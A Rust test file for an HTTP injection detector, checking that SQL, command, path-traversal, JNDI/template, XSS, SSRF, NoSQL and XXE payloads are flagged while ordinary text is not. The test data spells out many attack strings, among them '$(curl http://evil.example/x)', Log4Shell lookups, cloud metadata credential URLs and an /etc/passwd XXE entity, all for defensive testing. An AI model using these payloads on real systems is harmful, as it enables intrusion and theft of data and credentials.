//! What attackers' tools send, and what everybody else does.

use super::*;
use crate::inspect::{BodyScan, Limits, Role};

fn key() -> HashKey {
    HashKey::new([7; 16])
}

fn kinds(found: Injections) -> Vec<Injection> {
    found.iter().collect()
}

fn in_json(value: &str) -> Vec<Injection> {
    let body = serde_json::json!({ "id": 7, "text": value }).to_string();
    kinds(in_body(BodyKind::Json, body.as_bytes(), &key()))
}

/// As a browser would write it.
fn escaped(value: &str) -> String {
    value.bytes().fold(String::new(), |text, byte| match byte {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' => text + &char::from(byte).to_string(),
        _ => text + &format!("%{byte:02X}"),
    })
}

/// Values that are attacks wherever they stand.
const ATTACKS: &[(Injection, &[&str])] = &[
    (
        Injection::Query,
        &[
            "' OR '1'='1",
            "' or 1=1-- -",
            "admin'--",
            "admin' #",
            "1) AND 5362=9128 AND (2841=2841",
            "1' AND SLEEP(5)-- xYzA",
            "1 AND (SELECT 7421 FROM (SELECT(SLEEP(5)))abcd)",
            "1 UNION ALL SELECT NULL,NULL,CONCAT(0x71,0x7a)-- -",
            "-1' UNION SELECT username, password FROM users--",
            "1'/**/UNION/**/SELECT/**/1,2,3--",
            "1; DROP TABLE users--",
            "1';WAITFOR DELAY '0:0:5'--",
            "1 AND EXTRACTVALUE(1,CONCAT(0x5c,0x7e))",
            "x' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
            "1') OR pg_sleep(5)--",
            "\" or \"a\"=\"a",
            "1 ORDER BY 10--",
            "') OR ('a'='a",
        ],
    ),
    (
        Injection::Command,
        &[
            "; cat /etc/hostname",
            "127.0.0.1;id",
            "x|whoami",
            "$(curl http://evil.example/x)",
            "`id`",
            "a && ping -c 3 evil.example",
            "test; sleep 10",
            "() { :; }; /bin/bash -c 'id'",
            "x\n/bin/sh -i",
            "& echo 1 | powershell -enc aaaa",
        ],
    ),
    (
        Injection::Path,
        &[
            "../../../../etc/passwd",
            "/etc/shadow",
            "..\\..\\windows\\win.ini",
            "php://filter/convert.base64-encode/resource=index",
        ],
    ),
    (
        Injection::Expression,
        &[
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
            "${${::-j}${::-n}di:rmi://evil.example/a}",
            "{{7*7}}",
            "${7*7}",
            "<%= 7*7 %>",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "T(java.lang.Runtime).getRuntime().exec('id')",
        ],
    ),
    (
        Injection::Script,
        &[
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(document.domain)>",
            "<svg/onload=alert`1`>",
            "javascript:alert(1)",
        ],
    ),
    (
        Injection::HiddenAddress,
        &[
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "gopher://127.0.0.1:6379/_INFO",
            "http://2130706433/",
            "http://0x7f.0x0.0x0.0x1/",
            "http://[::ffff:169.254.169.254]/",
            "file:///etc/hostname",
        ],
    ),
    (
        Injection::InnerAddress,
        &[
            "http://localhost:8080/admin",
            "http://127.0.0.1/",
            "https://user@10.0.0.5/x",
            "http://[::1]:9200/_cat",
            "http://192.168.1.1",
        ],
    ),
];

/// Values that mean no harm.
const HARMLESS: &[&str] = &[
    "O'Brien",
    "rock 'n' roll -- the best of",
    "it's 5 o'clock; see you and bring 2 or 3 friends",
    "select a size; update my order; drop it at the door",
    "The European Union select committee met on Monday",
    "status = \"Open\" AND type = 'Bug' ORDER BY created DESC",
    "price gt 5 and name eq 'x' or id in (1,2,3)",
    "Müller & Söhne (Wien); 50% off | today only",
    "I could sleep (8 hours) or benchmark (my PC)",
    "C:\\Users\\me\\photo.jpg",
    "../img/logo.png",
    "https://shop.example/return?to=/account&x=1",
    "https://cdn.example:8443/a.js",
    "file:///storage/emulated/0/DCIM/1.jpg",
    "{\"filter\":{\"name\":{\"_eq\":\"x\"}}}",
    "query($id: ID!) { user(id: $id) { name, orders(first: 10) { total } } }",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
    "2025-11-23T10:00:00+01:00",
    "hello {{name}}, your total is ${total}",
    "a < b && c > d || e == f",
    "* * * * * /usr/local/bin/backup",
    "use the | character; cat and dog; id card",
    "1 = 1st, 2 = 2nd",
    "<p>Read <a href=\"https://x.example\">this</a></p>",
    "10.0.0.5",
    "v1.2.3",
    "http://12monkeys.example/",
];

#[test]
fn every_pattern_compiles_and_what_tools_send_is_told_in_a_query_and_in_json() {
    for (kind, values) in ATTACKS {
        for value in *values {
            let target = format!("/v1/items?sort=name&q={}", escaped(value));
            assert!(in_target(target.as_bytes(), &key()).contains(*kind), "{kind:?} in a query: {value}");
            let again = format!("/v1/items?q={}", escaped(&escaped(value)));
            assert!(in_target(again.as_bytes(), &key()).contains(*kind), "{kind:?} escaped twice: {value}");
            assert!(in_json(value).contains(kind), "{kind:?} in JSON: {value}");
            let form = format!("a=b&text={}", escaped(value));
            assert!(in_body(BodyKind::Form, form.as_bytes(), &key()).contains(*kind), "{kind:?} in a form: {value}");
        }
    }
}

#[test]
fn what_people_write_is_nothing() {
    for value in HARMLESS {
        let target = format!("/v1/items?sort=name&q={}", escaped(value));
        let found =
            [kinds(in_target(target.as_bytes(), &key())), in_json(value), kinds(in_field(value.as_bytes(), &key()))];
        assert_eq!(found, [vec![], vec![], vec![]], "{value}");
    }
}

#[test]
fn paths_and_lines_count_in_heads_only() {
    let kinds_of = |target: &str| kinds(in_target(target.as_bytes(), &key()));
    assert_eq!(kinds_of("/files/..%2f..%2f..%2fsecret"), [Injection::Path]);
    assert_eq!(kinds_of("/files/..%252f..%252fsecret"), [Injection::Path]);
    assert_eq!(kinds_of("/a?next=%0d%0aSet-Cookie:%20a=b"), [Injection::HeaderLine]);
    assert_eq!(kinds_of("/a?q=%3Cscript%20src=//evil.example/a.js%3E"), [Injection::Script]);
    for letter in ["see ../../shared/logo.png", "X:\r\nLocation: Vienna\r\n", "<script src=\"/a.js\"></script>"] {
        assert_eq!(in_json(letter), [], "{letter}");
    }
}

#[test]
fn a_target_in_absolute_form_and_plain_ones_are_nothing() {
    for target in [
        "http://10.0.0.5/v1/items",
        "/v1/items/5f2b?fields=a,b&since=2025-11-23T10%3A00%3A00Z",
        "/search?q=red%20shoes%20%26%20boots",
        "*",
        "/callback?redirect_uri=https%3A%2F%2Fapp.example%2Fcb&state=%7B%22a%22%3A1%7D",
    ] {
        assert_eq!(kinds(in_target(target.as_bytes(), &key())), [], "{target}");
    }
}

#[test]
fn operators_in_a_login_are_told() {
    assert_eq!(kinds(in_target(b"/login?user[$ne]=x&password[$ne]=x", &key())), [Injection::Query]);
    assert_eq!(kinds(in_target(b"/items?age[$gt]=5", &key())), []);
    let login = br#"{"username": {"$gt": ""}, "password": {"$gt": ""}}"#;
    assert_eq!(kinds(in_body(BodyKind::Json, login, &key())), [Injection::Query]);
    assert_eq!(kinds(in_body(BodyKind::Json, br#"{"where": {"age": {"$gt": 5}}}"#, &key())), []);
}

#[test]
fn entities_from_elsewhere_are_told() {
    let xml = br#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>"#;
    assert_eq!(kinds(in_body(BodyKind::Xml, xml, &key())), [Injection::Path, Injection::Entity]);
    assert_eq!(kinds(in_body(BodyKind::Xml, b"<!DOCTYPE html><a>x &amp; y</a>", &key())), []);
}

#[test]
fn addresses_in_fields_are_where_one_comes_from() {
    assert_eq!(kinds(in_field(b"http://localhost:3000/{x}", &key())), []);
    assert_eq!(kinds(in_field(b"${jndi:ldap://evil.example/a}", &key())), [Injection::Expression]);
}

#[test]
fn any_split_of_a_body_tells_the_same_and_what_lies_behind_its_beginning_nothing() {
    let body = format!(r#"{{"a":"{}","q":"1' UNION SELECT 1,2--"}}"#, "x".repeat(40));
    let found_by = |pieces: Vec<&[u8]>| {
        let mut scan = BodyScan::new(Limits::default(), key());
        scan.begin(Role::Request, BodyKind::Json);
        pieces.into_iter().for_each(|piece| {
            scan.feed(piece);
        });
        kinds(scan.finish().injections)
    };
    for at in 0..body.len() {
        let (head, tail) = body.as_bytes().split_at(at);
        assert_eq!(found_by(vec![head, tail]), [Injection::Query], "split at {at}");
    }
    let late = format!(r#"{{"a":"{}","q":"1' UNION SELECT 1,2--"}}"#, "x".repeat(BODY_BYTES));
    assert_eq!(found_by(vec![late.as_bytes()]), []);
}

#[test]
fn a_picture_is_no_text() {
    let head =
        "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n";
    let upload = |content: &[u8]| kinds(in_body(BodyKind::Multipart, &[head.as_bytes(), content].concat(), &key()));
    assert_eq!(upload(b"\x89PNG\r\n\x1a\n`id`|id;%{(#"), []);
    assert_eq!(upload(b"\x01`id`"), []);
    assert_eq!(upload("caf\u{e9}: `id`".as_bytes()), [Injection::Command]);
}

/// Lines of JSON of the corpus, each with its label and its value, escaped as in a query.
fn labelled(file: &str, field: &str) -> Option<Vec<(String, String)>> {
    let corpus = std::env::var_os("APITAP_CORPUS")?;
    let text = std::fs::read_to_string(std::path::Path::new(&corpus).join("injection").join(file)).unwrap();
    let line = |line: &str| {
        let line: serde_json::Value = serde_json::from_str(line).unwrap();
        (line["label"].as_str().unwrap().to_owned(), line[field].as_str().unwrap().to_owned())
    };
    Some(text.lines().map(line).collect())
}

#[test]
fn of_labelled_values_no_ordinary_one_is_told() {
    let Some(params) = labelled("http_params.jsonl", "payload") else {
        return eprintln!("skipped: APITAP_CORPUS is not set");
    };
    let values = params.into_iter().map(|(label, value)| (label, escaped(&value)));
    let strings = labelled("libinjection.jsonl", "urlencoded").unwrap();
    let mut counts = std::collections::BTreeMap::<String, (u32, u32)>::new();
    for (label, value) in values.chain(strings) {
        let found = in_target(format!("/v1/items?q={value}").as_bytes(), &key());
        let (told, all) = counts.entry(label).or_default();
        (*told, *all) = (*told + u32::from(!found.is_empty()), *all + 1);
    }
    eprintln!("{counts:?}");
    let (told, all) = counts["norm"];
    assert!(told * 1000 <= all, "{told} of {all} ordinary values");
}
